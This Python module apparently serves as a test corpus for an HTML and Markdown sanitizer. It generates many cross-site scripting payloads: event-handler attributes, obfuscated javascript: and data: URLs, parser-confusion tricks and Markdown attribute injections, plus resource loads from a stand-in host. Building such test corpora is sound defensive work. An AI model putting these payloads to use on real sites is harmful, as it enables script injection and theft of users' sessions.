"""Attacks on readers, as authors could write them: HTML and Markdown that runs a script or loads something.

They are generated: elements, attributes, addresses, and the ways in which each can be written. A script that runs calls
`hit`, which no page of ours has; whatever is loaded is asked of `FOREIGN`.
"""

from __future__ import annotations

from collections.abc import Iterator

FOREIGN = "https://foreign.example"
RUN = "hit(1)"
"""What a script of an attack does."""

_HANDLED = {
    "img src=none": "onerror",
    "img srcset=none": "onerror",
    "svg": "onload",
    "body": "onload onpageshow onhashchange",
    "details open": "ontoggle",
    "input autofocus": "onfocus",
    "select autofocus": "onfocus",
    "textarea autofocus": "onfocus",
    "video src=none": "onerror",
    "audio src=none": "onerror",
    "iframe": "onload",
    "object data=none": "onerror",
    "marquee": "onstart",
    "p style='animation: x 1s'": "onanimationstart",
    "div tabindex=0 autofocus": "onfocus",
    "a href=#x": "onclick onpointerenter",
    "math": "onclick",
    "table": "onmouseover",
    "custom-element": "onclick",
    "button autofocus": "onfocus",
}
_WRITTEN_HANDLERS = (
    '{} {}="{}"',
    "{} {}='{}'",
    "{} {}={}",
    "{}/{}/{}",
    "{}\n{}\n=\n{}",
    "{} x='>' {}={}",
    "{} {}\t=\t`{}`",
)
_LOADED = {
    "img": "src srcset lowsrc dynsrc",
    "source": "src srcset",
    "video": "src poster",
    "audio": "src",
    "track": "src",
    "iframe": "src srcdoc",
    "frame": "src",
    "embed": "src",
    "object": "data codebase classid",
    "script": "src",
    "link rel=stylesheet": "href",
    "link rel=preload as=image": "href imagesrcset",
    "link rel=manifest": "href",
    "link rel=dns-prefetch": "href",
    "input type=image": "src",
    "body": "background",
    "table": "background",
    "td": "background",
    "bgsound": "src",
    "svg": "href",
    "portal": "src",
    "a": "ping",
    "p": "style",
    "base": "href",
    "q": "cite",
}
_WRITTEN_ADDRESSES = (
    f"{FOREIGN}/{{}}",
    "//foreign.example/{}",
    "HTTPS://foreign.example/{}",
    "https:/\\foreign.example/{}",
    "\\\\foreign.example\\{}",
    " https://foreign.example/{}",
    "&#104;ttps://foreign.example/{}",
    "ht&#10;tps://foreign.example/{}",
    "/\t/foreign.example/{}",
    "none.png 1x, //foreign.example/{} 2x",
)
_SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java&#10;script:{}",
    "&#x6A;avascript:{}",
    "&#0000106avascript:{}",
    "javascript&colon;{}",
    "java&Tab;script:{}",
    " &#1;javascript:{}",
    "javascript://%0a{}",
    "java\0script:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "view-source:{}",
    "blob:{}",
    "file:///{}",
    "feed:javascript:{}",
)
_FOLLOWED = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<math><mtext xlink:href="{}">x</mtext></math>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<button formaction="{}">x</button>',
    '<map name=m><area href="{}"></map>',
    '<base href="{}">',
)
_TREES = (
    "<script>{}</script>",
    "<script>{}",
    "<ScRiPt\x0c>{}</sCrIpT >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script/y>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{}</script>'></iframe></foreignObject></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}/>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror={} src=x>'>",
    "<math><annotation-xml encoding='text/html'><script>{}</script></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<script>{}</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<noembed><p title='</noembed><img src=x onerror={}>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror={}>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror={}>'></xmp>",
    "<title><p title='</title><img src=x onerror={}>'></title>",
    "<textarea><p title='</textarea><img src=x onerror={}>'></textarea>",
    "<template><script>{}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<table><td><script>{}</script></table>",
    "<table><tr><img src=x onerror={}><td>x</table>",
    "<select><option><style></option></select><img src=x onerror={}></style></select>",
    "<!--><img src=x onerror={}>-->",
    "<!--!><img src=x onerror={}>-->",
    "<!-- --!><img src=x onerror={}>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<svg><![CDATA[><img src=x onerror={}>]]></svg>",
    "<?x <img src=x onerror={}>?>",
    "<!x '><img src=x onerror={}>'>",
    "</x <img src=x onerror={}>",
    "<img src='x' alt='`<img src=x onerror={}>`'>",
    '<img title="`"><img src=x onerror={}>">',
    "<a title='<img src=x onerror={}>' href=#>x</a>",
    "<img src=x\0onerror={}>",
    "<im\0g src=x onerror={}>",
    "<\0script>{}</script>",
    '<p id="\'><img src=x onerror={}>">x</p>',
    "<style>@import '//foreign.example/x';</style>",
    "<style>p {{ background: url(//foreign.example/x) }}</style>",
    "<p style='background: url(//foreign.example/x)'>x</p>",
    "<p style='background:u\\72l(//foreign.example/x)'>x</p>",
    "<pre class=mermaid>graph TD; a --> b</pre>",
    "<div class='chart-slot' data-key='0000000000000000'></div>",
    "<div class='cell-slot' data-cell='1'></div><a class='fact-slot' data-key='0'>x</a>",
    "<img name=getElementById src=none.png><form id=__search name=cookie></form>",
    "<div data-md-component='search' data-md-scheme='x'><input data-md-component='search-query' onfocus={}></div>",
    "<isindex type=image src=//foreign.example/x>",
    "<keygen autofocus onfocus={}>",
    "<dialog open oncancel={}><button autofocus onfocus={}>x</button></dialog>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'><script>{}</script>",
    "<meta charset=utf-7>+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<div popover id=p onbeforetoggle={}></div><button popovertarget=p autofocus>x</button>",
)
_MARKDOWN = (
    "![x](none.png){{onerror={}}}",
    "![x](none.png){{src=//foreign.example/x}}",
    "![x](none.png){{srcset=//foreign.example/x}}",
    "![x](//foreign.example/x)",
    "![x](data:image/svg+xml,<svg/onload={}>)",
    '![x" onerror="{}](none.png)',
    "![x](none.png '\" onerror=\"{}')",
    '![x](<none.png" onerror="{}>)',
    "[x](javascript:{})",
    "[x](JAVASCRIPT:{})",
    "[x](java\tscript:{})",
    "[x](<javascript:{}>)",
    "[x](&#106;avascript:{})",
    "[x](java&NewLine;script:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](https://example.org){{href=javascript:{}}}",
    "[x](https://example.org){{onpointerenter={} target=_blank ping=//foreign.example/x}}",
    "[x][y]\n\n[y]: javascript:{}",
    "[x][y]\n\n[y]: <https://example.org\" onclick=\"{}> 'x'",
    "<javascript:{}>",
    "## Words {{#x onclick={}}}",
    '## Words {{#x"onclick="{}}}',
    '## Words {{#"><img/src=x/onerror={}>}}',
    "## Words <img src=x onerror={}>",
    "Words\n{{: onclick={} style=background:url(//foreign.example/x)}}",
    "Words {{.chart-slot data-key=0000000000000000}}\n{{: .chart-slot data-key=0000000000000000}}",
    "- item\n{{: .md-search data-md-component=search onclick={}}}",
    "| a | b |\n|---|---|\n| <script>{}</script> | x {{onclick={}}} |",
    '!!! note "<img src=x onerror={}>"\n    <script>{}</script>',
    '!!! mermaid" onclick="{}\n    Words',
    "```mermaid\ngraph TD\n```",
    "```{{.python onclick={} title='<img src=x onerror={}>'}}\nx\n```",
    '```"><img/src=x/onerror={}>\nx\n```',
    "`<script>{}</script>`<script>{}</script>",
    "Words[^x].\n\n[^x]: <img src=x onerror={}>",
    'Words[^"><img src=x onerror={}>].\n\n[^"><img src=x onerror={}>]: x',
    '<div markdown="1" onclick={}>\n*x* <img src=x onerror={}>\n</div>',
    '<div markdown="block"><script>{}</script></div>',
    "> <iframe srcdoc='<script>parent.{}</script>'></iframe>",
    '1. <object data="javascript:{}">',
    "    <script>{}</script>\n\n<script>{}</script>",
    "\x02wzxhzdk:0\x03<script>{}</script>",
    "\ue0001:1\ue001<script>{}</script>",
    "\u2fea\u2fe1\u2feb\u2fe1\u2fec<script>{}</script>",
    '<img \u2fea\u2fe1\u2feb\u2fe1\u2fec=" onerror={} " src=x>',
    '<a href="java \u2fea\u2fe1\u2feb\u2fe1\u2fecscript:{}">x</a>',
    '<a href="java\ue0001:1\ue001script:{}">x</a>',
    '![x](fact:a/b" onerror="{})',
    '![x](chart:"><img/src=x/onerror={}>)',
    '[x](fact:"onclick={})',
    "\\<script>{}\\</script>\n\n&lt;script&gt;{}&lt;/script&gt;",
    "[x](./javascript:{}) [x](java@base@script:{}) <a href='@base@javascript:{}'>x</a> <a href='./javascript:{}'>x</a>",
    "![x](./http://foreign.example/x) <img src='http@base@://foreign.example/x'> <img src='@base@//foreign.example/x'>",
    '@base@" onclick="{} [x](@base@javascript:{})',
)


def element_attacks() -> Iterator[str]:
    """Attacks of one element each, with one attribute that runs or loads something."""
    for number, (element, handlers) in enumerate(_HANDLED.items()):
        for step, handler in enumerate(handlers.split()):
            form = _WRITTEN_HANDLERS[(number + step) % len(_WRITTEN_HANDLERS)]
            yield f"<{form.format(element, handler, RUN)}>x</{element.split()[0]}>"
    count = 0
    for element, attributes in _LOADED.items():
        for attribute in attributes.split():
            address = _WRITTEN_ADDRESSES[count % len(_WRITTEN_ADDRESSES)].format(count)
            value = f"background:url({address})" if attribute == "style" else address
            count += 1
            yield f'<{element} {attribute}="{value}">x</{element.split()[0]}>'


def html_attacks() -> Iterator[str]:
    """Attacks that are written as HTML."""
    yield from (*address_attacks(), *tree_attacks())


def address_attacks() -> Iterator[str]:
    """Attacks by the address of a link or a frame."""
    for number, scheme in enumerate(_SCHEMES):
        yield _FOLLOWED[0].format(scheme.format(RUN))
        yield _FOLLOWED[1 + number % (len(_FOLLOWED) - 1)].format(scheme.format(RUN))


def tree_attacks() -> Iterator[str]:
    """Attacks by what parsers make of a text: after some of them all that follows is no text any more."""
    for tree in _TREES:
        yield tree.format(*[RUN] * tree.count("{}"))


def markdown_attacks() -> Iterator[str]:
    """Attacks that are written in Markdown, or around it."""
    for text in _MARKDOWN:
        yield text.format(*[RUN] * text.count("{}"))


ATTACKS = (*element_attacks(), *html_attacks(), *markdown_attacks())
